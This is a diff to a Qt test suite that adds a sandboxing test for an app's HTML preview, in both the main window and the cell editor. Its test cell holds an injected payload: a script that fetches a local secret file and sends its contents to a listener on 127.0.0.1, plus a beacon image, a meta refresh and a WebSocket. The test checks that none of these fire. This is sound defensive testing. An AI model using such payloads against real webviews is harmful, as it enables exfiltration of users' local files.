@@ -4,9 +4,14 @@
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QLineEdit>
+#include <QTcpServer>
+#include <QToolBar>
 #include <QWebEnginePage>
+#include <QWebEngineScript>
 #include <QWebEngineView>
 
+#include "gui/cell_editor/frm_edit.h"
+#include "gui/widgets/url_opener.h"
 #include "gui/window/main_window.h"
 #include "support/window_parts.h"
 #include "gui/grid/grid_widget.h"
@@ -21,6 +26,8 @@ class tst_Preview : public QObject
 private slots:
     void cleanup();
     void previewRendersTheTable();
+    void strangersPageShowsButNeverRuns_data();
+    void strangersPageShowsButNeverRuns();
 
 private:
     QVariant evaluate(QWebEngineView *view, const QString &script);
@@ -39,7 +46,8 @@ QVariant tst_Preview::evaluate(QWebEngineView *view, const QString &script)
 {
     QVariant result;
     bool done = false;
-    view->page()->runJavaScript(script, [&](const QVariant &v) {
+    // The page's own scripts are off; the test looks from a world of its own.
+    view->page()->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant &v) {
         result = v;
         done = true;
     });
@@ -123,6 +131,96 @@ void tst_Preview::previewRendersTheTable()
     QVERIFY(!QFile::exists(page));
     QVERIFY(view->isVisible());
     QCOMPARE(evaluate(view, QStringLiteral("document.querySelectorAll('td,th').length")).toInt(), 6);
+}
+
+void tst_Preview::strangersPageShowsButNeverRuns_data()
+{
+    QTest::addColumn<bool>("inEditor");
+    QTest::newRow("window preview") << false;
+    QTest::newRow("cell editor's preview") << true;
+}
+
+void tst_Preview::strangersPageShowsButNeverRuns()
+{
+    QFETCH(bool, inEditor);
+    QTemporaryDir dir;
+    QImage picture(7, 5, QImage::Format_RGB32);
+    picture.fill(Qt::green);
+    QVERIFY(picture.save(dir.filePath(QStringLiteral("pic.png"))));
+    QFile secret(dir.filePath(QStringLiteral("secret.txt")));
+    QVERIFY(secret.open(QIODevice::WriteOnly) && secret.write("hostname") > 0);
+    secret.close();
+    QTcpServer listener;
+    QVERIFY(listener.listen(QHostAddress::LocalHost));
+    const QString port = QString::number(listener.serverPort());
+    QList<QUrl> opened;
+    setUrlOpener([&opened](const QUrl &url) { opened << url; });
+
+    // What an imported page can carry in a cell. In the window the table lies
+    // beside its picture, so the picture's relative address finds it.
+    const QString cell = QStringLiteral(
+            "<IMG ID=\"pic\" SRC=\"%1\"><A ID=\"out\" HREF=\"http://127.0.0.1:%2/link\">link</A>"
+            "<IMG SRC=\"http://127.0.0.1:%2/beacon.png\"><IFRAME SRC=\"%3\"></IFRAME>"
+            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://127.0.0.1:%2/refresh\">"
+            "<SCRIPT>document.title = 'ran';"
+            "new WebSocket('ws://127.0.0.1:%2/socket');"
+            "fetch('%3').then(r => r.text()).then(t => { location.href = 'http://127.0.0.1:%2/?' + t; });"
+            "</SCRIPT>")
+            .arg(inEditor ? QUrl::fromLocalFile(dir.filePath(QStringLiteral("pic.png"))).toString()
+                          : QStringLiteral("pic.png"),
+                 port, QUrl::fromLocalFile(secret.fileName()).toString());
+
+    std::unique_ptr<frmMain> window;
+    std::unique_ptr<frmEdit> editor;
+    QWebEngineView *view = nullptr;
+    if (inEditor) {
+        editor = std::make_unique<frmEdit>();
+        editor->show();
+        QVERIFY(QTest::qWaitForWindowExposed(editor.get()));
+        editor->SettingText(cell);
+        QTest::mouseClick(editor->Bar->widgetForAction(editor->BarButton[5]), Qt::LeftButton);
+        view = qobject_cast<QWebEngineView *>(editor->webView());
+    } else {
+        window = std::make_unique<frmMain>();
+        window->setFileName(dir.filePath(QStringLiteral("table.qvn")));
+        window->resize(900, 600);
+        window->show();
+        QVERIFY(QTest::qWaitForWindowExposed(window.get()));
+        doc(*window).setCellText(1, 1, cell);
+        view = qobject_cast<QWebEngineView *>(output(*window)->webView());
+        QVERIFY(view);
+        window->Bar_ButtonClick(ToolbarButton::Preview);
+    }
+    QVERIFY(view);
+    const QUrl page = QUrl::fromLocalFile(inEditor ? editor->PreviewFile : output(*window)->PageFilePath);
+    QVERIFY(QTest::qWaitFor([&] { return evaluate(view, QStringLiteral("document.readyState")).toString() == QLatin1String("complete"); }, 20000));
+
+    // The picture beside the table shows; nothing reached the listener.
+    QVERIFY(QTest::qWaitFor([&] { return evaluate(view, QStringLiteral("document.getElementById('pic').naturalWidth")).toInt() == 7; }, 10000));
+    QTest::qWait(1500);
+    QVERIFY(!listener.hasPendingConnections());
+    QVERIFY(evaluate(view, QStringLiteral("document.title")).toString() != QLatin1String("ran"));
+    QCOMPARE(view->url(), page);
+
+    // A click on the link opens it in the user's browser, not in the preview.
+    const QJsonArray r = QJsonDocument::fromJson(evaluate(view, QStringLiteral(
+            "(() => { const r = document.getElementById('out').getBoundingClientRect();"
+            " return JSON.stringify([r.left, r.top, r.width, r.height]); })()")).toString().toUtf8()).array();
+    const QRect link(int(r.at(0).toDouble()), int(r.at(1).toDouble()), int(r.at(2).toDouble()),
+                     int(r.at(3).toDouble()));
+    QVERIFY(link.isValid());
+    QWidget *surface = view->focusProxy() ? view->focusProxy() : view;
+    QTest::mouseClick(surface, Qt::LeftButton, {}, link.center());
+    QVERIFY(QTest::qWaitFor([&] { return !opened.isEmpty(); }, 10000));
+    QCOMPARE(opened.first(), QUrl(QStringLiteral("http://127.0.0.1:%1/link").arg(port)));
+    QTest::qWait(500);
+    QCOMPARE(view->url(), page);
+    QVERIFY(!listener.hasPendingConnections());
+    setUrlOpener({});
+    if (window) {
+        output(*window)->PageFileFlag = true;
+        output(*window)->deletePageFileIfFlagged();
+    }
 }
 
 QTEST_MAIN(tst_Preview)
